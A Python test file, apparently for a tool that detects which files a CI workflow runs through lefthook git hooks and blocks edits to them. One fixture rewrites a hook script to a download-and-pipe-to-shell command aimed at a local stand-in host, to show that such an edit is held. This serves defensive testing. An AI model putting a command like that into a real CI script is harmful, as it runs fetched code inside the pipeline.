"""Misses 8: lefthook run by CI runs its hooks' commands in the job (taskrunners.py). `npx lefthook run pre-push`
with `lefthook.yml`'s `run: ./devTools/pre-push` runs that script (review 67a's Left), and a hook's `scripts:` run
from `.lefthook/HOOK/`. On 4c9e1172 both stayed `src` or `other` (exit 0). lefthook's settings file is read as a task
runner's file (a Makefile `make` runs is ci by the same reading). Look-alikes: a repository whose CI does not run
lefthook, an echoed command, `lefthook` as a word of a path."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from tables import each_case

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
COMMANDS = ["npx lefthook run pre-push", "lefthook run pre-commit --all-files", "pnpm exec lefthook run lint",
            "bunx lefthook run check", "yarn lefthook run pre-push", "pnpm lefthook run x",
            "./node_modules/.bin/lefthook run x", "node_modules/.bin/lefthook run x",
            "lefthook install && git commit -m x"]
SETTINGS = ["lefthook.yml", ".lefthook.yml", "lefthook.yaml", ".config/lefthook.yml", "lefthook-local.yml"]
RUNS = [  # (a hook's body, the script it runs)
    ("  commands:\n    check:\n      run: ./devTools/pre-push\n", "devTools/pre-push"),
    ("  commands:\n    lint:\n      run: bash scripts/lint.sh {staged_files}\n", "scripts/lint.sh"),
    ("  jobs:\n    - name: t\n      run: python tools/check.py\n", "tools/check.py"),
    ("  scripts:\n    \"lint.sh\":\n      runner: bash\n", ".lefthook/HOOK/lint.sh"),
]


def _variants() -> list[tuple[str, str, str, str]]:
    return [(command, settings, body, script) for command in COMMANDS for settings in SETTINGS[:2]
            for body, script in RUNS] + [(COMMANDS[0], settings, body, script) for settings in SETTINGS[2:]
                                          for body, script in RUNS]


@each_case("command, settings, body, script", _variants())
def test_what_a_hook_ci_runs_runs_is_read(command: str, settings: str, body: str, script: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=command), settings: f"pre-push:\n{body}",
             script.replace("HOOK", "pre-push"): "echo\n", "README.md": "x\n"}
    assert script.replace("HOOK", "pre-push") in tree_runs(files), (command, settings)  # before: 84/84 missed


@each_case("command", ["echo lefthook run pre-push", "npm test", "ls tools/lefthook/run.sh"])
def test_look_alikes_read_no_hook(command: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=command),
             "lefthook.yml": "pre-push:\n  commands:\n    c:\n      run: ./devTools/pre-push\n",
             "devTools/pre-push": "echo\n", ".lefthook/pre-push/a.sh": "x\n", "README.md": "x\n"}
    runs = tree_runs(files)
    assert not {"devTools/pre-push", ".lefthook/pre-push/a.sh", "lefthook.yml"} & runs, command


def test_an_edit_of_a_hook_script_ci_runs_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="npx lefthook run pre-push"),
            "lefthook.yml": "pre-push:\n  commands:\n    check:\n      run: ./devTools/pre-push\n",
            "devTools/pre-push": "echo ok\n"}
    case = committed(tmp_path, base, {"devTools/pre-push": "curl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["devTools/pre-push"]), named  # before: exit 0
